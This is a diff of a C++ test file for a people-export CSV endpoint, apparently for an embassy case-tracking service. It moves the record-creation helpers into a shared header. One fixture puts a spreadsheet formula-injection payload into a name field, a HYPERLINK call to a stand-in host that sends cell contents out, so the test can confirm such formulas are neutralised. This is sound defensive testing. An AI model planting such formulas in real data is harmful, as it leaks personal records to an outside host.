@@ -6,11 +6,14 @@
 #include <regex>
 
 #include "service/journey_records.hpp"
+#include "support/records.hpp"
 #include "support/seeded_server.hpp"
 
 namespace rudi {
 namespace {
 using test::ApiClient;
+using test::make_cohort;
+using test::make_person;
 
 const std::string kExport = "/api/v1/people/export.csv";
 const std::string kHeader =
@@ -41,22 +44,6 @@ class PeopleExportTest : public ::testing::Test {
     server_ = std::make_unique<test::SeededServer>();
   }
 
-  std::int64_t make_cohort(ApiClient& c) {
-    auto reply = c.post("/api/v1/cohorts", {{"name", "Myawaddy release"},
-                                            {"released_on", "2025-02-12"},
-                                            {"country", "MM"},
-                                            {"locality", "Myawaddy → Mae Sot"}});
-    EXPECT_EQ(reply.status, 201u) << reply.body;
-    return reply.json()["id"];
-  }
-
-  std::int64_t make_person(ApiClient& c, std::optional<std::int64_t> cohort, nlohmann::json body) {
-    if (cohort) body["cohort_id"] = *cohort;
-    auto reply = c.post("/api/v1/people?allow_similar=true", body);
-    EXPECT_EQ(reply.status, 201u) << reply.body;
-    return reply.json().value("id", std::int64_t{0});
-  }
-
   std::string count(const std::string& sql) { return server_->db().owner_query(sql); }
 
   std::unique_ptr<test::SeededServer> server_;
@@ -65,17 +52,12 @@ class PeopleExportTest : public ::testing::Test {
 TEST_F(PeopleExportTest, AnEmbassyOfficerExportsTheirMissionsPeopleWithFormulasNeutralised) {
   ApiClient bangkok = server_->signed_in("embassy.one");
   const auto cohort = make_cohort(bangkok);
-  const auto neema = make_person(bangkok, cohort,
-                                 {{"given_name", "Neema"},
-                                  {"family_name", "Wafula"},
-                                  {"estimated_age", 27},
-                                  {"stage", "located"},
-                                  {"phone", "+66812345678"},
-                                  {"current_location", "Mae Sot shelter"}});
+  const auto neema =
+      make_person(bangkok, cohort, {{"phone", "+66812345678"}, {"current_location", "Mae Sot shelter"}});
   const auto formula = make_person(bangkok, cohort,
                                    {{"given_name", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")"},
                                     {"family_name", "+254712345678"},
-                                    {"stage", "located"}});
+                                    {"estimated_age", nullptr}});
   const auto minor = make_person(bangkok, std::nullopt,
                                  {{"given_name", "Amani"},
                                   {"family_name", "Otieno, Jr."},
@@ -133,8 +115,7 @@ TEST_F(PeopleExportTest, AnEmbassyOfficerExportsTheirMissionsPeopleWithFormulasN
 TEST_F(PeopleExportTest, TheListsFiltersChooseTheRowsAndPagingIsRefused) {
   ApiClient bangkok = server_->signed_in("embassy.one");
   const auto cohort = make_cohort(bangkok);
-  const auto neema = make_person(bangkok, cohort,
-                                 {{"given_name", "Neema"}, {"family_name", "Wafula"}, {"stage", "located"}});
+  const auto neema = make_person(bangkok, cohort);
   const auto amani = make_person(bangkok, cohort,
                                  {{"given_name", "Amani"},
                                   {"family_name", "Otieno"},
@@ -178,7 +159,7 @@ TEST_F(PeopleExportTest, TheListsFiltersChooseTheRowsAndPagingIsRefused) {
 
 TEST_F(PeopleExportTest, AdministratorsAuditorsAndProsecutorsAreRefusedAndTheRefusalIsAudited) {
   ApiClient bangkok = server_->signed_in("embassy.one");
-  make_person(bangkok, make_cohort(bangkok), {{"given_name", "Neema"}, {"family_name", "Wafula"}});
+  make_person(bangkok, make_cohort(bangkok));
   ApiClient admin = server_->client();
   ASSERT_EQ(admin.sign_in("admin.one", test::kTestPassword).status, 201u);
   ApiClient auditor = server_->client();
@@ -203,8 +184,7 @@ TEST_F(PeopleExportTest, AdministratorsAuditorsAndProsecutorsAreRefusedAndTheRef
 
 TEST_F(PeopleExportTest, MoreThanTheBoundIsRefusedAndNothingIsExported) {
   ApiClient bangkok = server_->signed_in("embassy.one");
-  const auto own = make_person(bangkok, std::nullopt,
-                               {{"given_name", "Neema"}, {"family_name", "Wafula"}, {"stage", "located"}});
+  const auto own = make_person(bangkok, std::nullopt);
   // The bound exactly (written straight into the table: through the API it would take minutes).
   const std::string bulk = "INSERT INTO people (mission_id, given_name, family_name, nationality) SELECT " +
                            std::to_string(server_->bangkok) +
